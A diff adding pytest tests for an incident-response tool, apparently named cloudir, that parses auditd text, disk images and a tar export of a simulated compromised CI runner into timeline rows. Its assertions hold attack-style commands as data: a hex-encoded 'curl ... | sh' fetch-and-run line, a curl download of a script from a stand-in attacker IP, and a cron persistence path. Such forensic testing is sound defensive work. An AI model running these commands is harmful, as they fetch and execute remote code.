@@ -1,0 +1,142 @@
+"""dissect records to timeline rows: the curated mappings, times, and a tar export."""
+
+from __future__ import annotations
+
+import json
+import os
+import tarfile
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from cloudir.analyze.host.records import audit_fields
+from cloudir.analyze.host.rows import iso_time
+from cloudir.analyze.parsers import ErrorLog, ParseOptions
+from cloudir.analyze.parsers.host import accepts, parse, skip_reason
+
+INTRUSION = datetime(2026, 11, 27, 5, 0, tzinfo=UTC)
+
+
+def test_auditd_text_becomes_its_key_values() -> None:
+    user_space = (
+        'pid=1264 uid=0 auid=4294967295 msg=\'op=add-user id=1000 exe="/usr/sbin/useradd" '
+        "hostname=? addr=? terminal=? res=success'"
+    )
+    found = audit_fields(user_space)
+    assert found["pid"] == "1264" and found["exe"] == "/usr/sbin/useradd"
+    assert found["res"] == "success" and found["op"] == "add-user"
+    # auditd hex-encodes arguments that hold spaces; quoted ones stay as written
+    execve = 'argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F782F73207C207368'
+    assert audit_fields(execve)["a2"] == "curl http://x/s | sh"
+    assert audit_fields('a0="CAFE"')["a0"] == "CAFE"
+
+
+def test_zero_and_1970_times_are_no_time() -> None:
+    assert iso_time(datetime(1970, 1, 1, tzinfo=UTC)) is None
+    assert iso_time(datetime(1970, 1, 1, 0, 0, 5, tzinfo=UTC)) is None
+    assert iso_time(None) is None
+    assert iso_time(INTRUSION) == "2026-11-27T05:00:00+00:00"
+
+
+def test_images_and_split_segments_are_told_apart(tmp_path: Path) -> None:
+    for name in ("disk.raw", "web.E01", "vol.vmdk", "fs.tar.gz", "x.qcow2", "image.raw"):
+        assert accepts(tmp_path / name), name
+    (tmp_path / "d.000").touch()
+    (tmp_path / "d.001").touch()
+    assert accepts(tmp_path / "d.000")
+    assert not accepts(tmp_path / "d.001")
+    assert skip_reason(tmp_path / "d.001") == (
+        "a later segment of a split image; read with its first segment"
+    )
+    assert accepts(tmp_path / "only.001")  # a set that starts at .001
+    assert not accepts(tmp_path / "web.E02")
+    assert not accepts(tmp_path / "events.json.gz")
+
+
+@pytest.fixture(scope="module")
+def tar_rows(tmp_path_factory: pytest.TempPathFactory) -> tuple[list[dict[str, Any]], ErrorLog]:
+    """The demo runner's file system as a tar export, parsed without the fs timeline."""
+    from cloudir.demo_instance import _write_tree
+
+    base = tmp_path_factory.mktemp("tar")
+    root = base / "root"
+    _write_tree(root, INTRUSION, "203.0.113.77", "AKIAIOSFODNN7EXAMPLE")
+    export = base / "fs.tar.gz"
+    with tarfile.open(export, "w:gz") as tar:
+        tar.add(root, arcname=".")
+    errors = ErrorLog("tar-item", "fs.tar.gz")
+    rows: list[dict[str, Any]] = []
+    for batch in parse(export, "tar-item", errors, ParseOptions(fs_timeline=False)):
+        rows += batch.to_pylist()
+    return rows, errors
+
+
+def test_a_tar_export_gives_the_hosts_artifacts(
+    tar_rows: tuple[list[dict[str, Any]], ErrorLog],
+) -> None:
+    rows, errors = tar_rows
+    assert errors.entries == []
+    assert {r["host"] for r in rows} == {"ci-runner-1"}
+    auth = [r for r in rows if r["artifact"] == "linux:auth"]
+    failures = [r for r in auth if r["outcome"] == "failure"]
+    assert len(failures) == 12
+    assert {r["src_ip"] for r in failures} == {"203.0.113.77"}
+    # dissect reads "for invalid user admin" as the user "invalid": the name is kept
+    assert "admin" in {r["user"] for r in failures} and "invalid" not in {r["user"] for r in auth}
+    [login] = [r for r in auth if "Accepted password" in r["message"]]
+    assert (login["user"], login["outcome"], login["timestamp_desc"]) == (
+        "deploy",
+        "success",
+        "Event Time",
+    )
+    assert login["timestamp"] == INTRUSION
+    raw = json.loads(login["raw"])
+    assert (raw["program"], raw["pid"]) == ("sshd", 2231)
+
+
+def test_shell_history_rows_are_process_creations(
+    tar_rows: tuple[list[dict[str, Any]], ErrorLog],
+) -> None:
+    rows, _ = tar_rows
+    history = sorted(
+        (r for r in rows if r["artifact"] == "linux:bash_history"), key=lambda r: r["timestamp"]
+    )
+    assert len(history) == 8
+    curl = json.loads(history[2]["raw"])
+    assert curl["CommandLine"] == "curl -s http://203.0.113.77/k.sh -o /var/tmp/.cache/k.sh"
+    assert (curl["Image"], curl["User"], curl["ParentImage"]) == ("curl", "deploy", "/bin/bash")
+    assert history[2]["timestamp"] == datetime(2026, 11, 27, 5, 3, tzinfo=UTC)
+
+
+def test_records_without_a_time_take_their_files_mtime(
+    tar_rows: tuple[list[dict[str, Any]], ErrorLog],
+) -> None:
+    rows, _ = tar_rows
+    [cron] = [r for r in rows if r["artifact"] == "linux:cron_job"]
+    assert cron["timestamp_desc"] == (
+        "Source File Modification Time (/var/spool/cron/crontabs/deploy)"
+    )
+    assert cron["timestamp"] == datetime(2026, 11, 27, 5, 8, tzinfo=UTC)
+    assert (cron["user"], cron["target"]) == ("deploy", "/var/tmp/.cache/kworkerd")
+    keys = [r for r in rows if r["artifact"] == "linux:ssh_authorized_key"]
+    assert sorted(r["target"] for r in keys) == ["attacker@kali", "ci@build"]
+
+
+def test_event_ids_are_stable_and_distinct(
+    tar_rows: tuple[list[dict[str, Any]], ErrorLog],
+) -> None:
+    rows, _ = tar_rows
+    ids = [r["event_id"] for r in rows]
+    assert len(ids) == len(set(ids))
+
+
+def test_an_unreadable_image_is_one_line_and_nothing_else(tmp_path: Path) -> None:
+    fake = tmp_path / "disk.raw"
+    fake.write_bytes(os.urandom(256 * 1024))
+    errors = ErrorLog("x", "disk.raw")
+    assert list(parse(fake, "x", errors, ParseOptions())) == []
+    [entry] = errors.entries
+    assert entry["reason"].startswith("disk.raw: no file system found")
+    assert "\n" not in entry["reason"]
